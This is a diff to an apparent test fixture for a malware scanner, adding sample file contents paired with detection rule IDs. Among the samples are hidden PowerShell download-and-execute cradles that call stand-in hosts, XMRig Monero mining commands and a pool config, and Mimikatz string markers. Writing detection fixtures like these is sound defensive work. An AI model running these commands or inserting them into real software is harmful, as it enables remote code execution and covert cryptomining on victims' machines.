@@ -112,6 +112,10 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     ids: ["ring3.script.powershell_download_cradle"],
     data: "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n",
   },
+  "scripts/start-hidden.ps1": {
+    ids: ["ring3.script.powershell_download_cradle"],
+    data: "Start-Process PowerShell.exe -WindowStyle Hidden -ArgumentList \"-c IEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\"\r\n",
+  },
   "scripts/launch.cmd": { ids: ["ring3.script.powershell_encoded_command"], data: `powershell.exe -NoP -NonI -W Hidden -enc ${ENCODED}\r\n` },
   "scripts/invoice.vbs": {
     ids: ["ring3.script.wsh_downloader"],
@@ -158,6 +162,11 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
   },
   "tools/xmrig": { ids: ["ring3.tool.xmrig_binary"], data: elf(z("XMRig"), z("donate.v2.xmrig.com"), z("--donate-level")) },
   "tools/start.sh": { ids: ["ring3.tool.miner_command_monero"], data: `./kworker -o pool.example.invalid:443 -u ${XMR} -k --tls\n` },
+  "tools/run-miner.sh": { ids: ["ring3.tool.miner_command_monero"], data: `nohup ./xmrig --url=pool.example.invalid:3333 --user='${XMR}.w1' >/dev/null &\n` },
+  "tools/miner/pool.json": {
+    ids: ["ring3.tool.miner_command_monero"],
+    data: `{"pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "${XMR}", "pass": "x"}]}\n`,
+  },
   "tools/mimi.exe": { ids: ["ring3.tool.mimikatz"], data: pe(wide("gentilkiwi"), wide("sekurlsa"), wide("logonPasswords"), wide("lsadump")) },
   "tools/Invoke-Mimikatz.ps1": {
     ids: ["ring3.tool.invoke_mimikatz"],
